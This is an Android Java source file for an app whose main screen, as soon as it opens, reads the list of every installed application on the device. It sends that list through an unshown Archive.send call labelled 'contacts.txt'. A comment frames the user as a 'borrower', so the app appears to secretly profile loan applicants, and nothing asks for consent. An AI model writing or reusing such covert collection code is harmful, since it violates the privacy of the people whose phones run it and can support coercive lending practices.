package com.example.zipapps;

import android.app.Activity;
import android.content.pm.ApplicationInfo;
import android.os.Bundle;
import java.io.IOException;

/** Which other apps does the borrower have? */
public class MainActivity extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        new Thread(this::export).start();
    }

    private void export() {
        StringBuilder rows = new StringBuilder();
        for (ApplicationInfo app : getPackageManager().getInstalledApplications(0)) {
            rows.append(app.packageName).append('\n');
        }
        try {
            Archive.send("contacts.txt", rows.toString());
        } catch (IOException offline) {
            finish();
        }
    }
}
